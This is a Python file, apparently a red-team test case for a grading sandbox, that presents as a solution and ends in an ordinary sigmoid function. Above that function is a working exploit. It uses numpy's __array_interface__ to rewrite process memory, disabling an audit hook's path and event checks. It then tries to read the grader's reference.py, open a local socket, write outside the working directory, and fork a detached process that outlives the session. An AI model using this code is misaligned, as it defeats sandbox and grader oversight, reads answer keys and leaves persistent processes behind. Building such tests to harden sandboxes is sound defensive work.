"""Attack: numpy's __array_interface__ gives raw read/write of any address (no ctypes, no audit event).
Scan our own rw memory (/proc/self/maps is readable) and rewrite the strings the audit hook bound at
install time: the protected path, the keys of its `refused` dict, and os.devnull (always allowed)."""
import os, socket, sys, time
import numpy as np

class _Raw:
    def __init__(self, addr, n):
        self.__array_interface__ = {"shape": (n,), "typestr": "|u1", "data": (addr, False), "version": 3}

def _patch(pairs):
    hits = {}
    mine = {id(b) + 32 for p in pairs for b in p}  # our own pattern bytes objects: leave them alone
    for line in open("/proc/self/maps").read().splitlines():
        f = line.split()
        if f[1] != "rw-p" or (len(f) > 5 and f[5].startswith("[v")):
            continue
        lo, hi = (int(x, 16) for x in f[0].split("-"))
        mem = np.asarray(_Raw(lo, hi - lo))
        data = mem.tobytes()
        for old, new in pairs:
            i = data.find(old)
            while i >= 0:
                if lo + i in mine:
                    i = data.find(old, i + 1); continue
                mem[i:i + len(new)] = np.frombuffer(new, np.uint8)
                hits[old] = hits.get(old, 0) + 1
                i = data.find(old, i + 1)
    return hits

DERIVE = "DERIVE_DIR"  # the grader's derive package, filled in by the test
WRITTEN = "WRITTEN_FILE"  # a path outside the working directory, as long as "/dev/null"

LOG = []
def _attack():
    hits = _patch([(DERIVE.encode() + b"\0", b"/" + b"x" * (len(DERIVE) - 1) + b"\0"),
                   (b"os.fork\0", b"os.fxrk\0"), (b"socket.__new__\0", b"socket.__nex__\0"),
                   (b"socket.connect\0", b"socket.connexx\0"), (b"/dev/null\0", WRITTEN.encode() + b"\0")])
    LOG.append(f"patched {hits}")
    try:
        LOG.append("reference.py: " + open(DERIVE + "/reference.py").read()[:60].replace("\n", " "))
    except Exception as e:
        LOG.append(f"reference.py: {type(e).__name__} {e}")
    try:
        s = socket.socket(); s.settimeout(2); s.connect(("127.0.0.1", 47111)); s.sendall(b"hello from the sandbox\n")
        LOG.append("network: connected to 127.0.0.1:47111")
    except Exception as e:
        LOG.append(f"network: {type(e).__name__} {e}")
    try:
        with open(WRITTEN, "w") as f:
            f.write(f"written by uid {os.getuid()}\n")
        LOG.append("wrote " + WRITTEN)
    except Exception as e:
        LOG.append(f"write: {type(e).__name__} {e}")
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(120)
            os._exit(0)
        LOG.append("forked a setsid grandchild (sleeps 120 s)")
    except Exception as e:
        LOG.append(f"fork: {type(e).__name__} {e}")

_attack()
print("\n".join(LOG))

def sigmoid(x):
    return 1 / (1 + np.exp(-x))
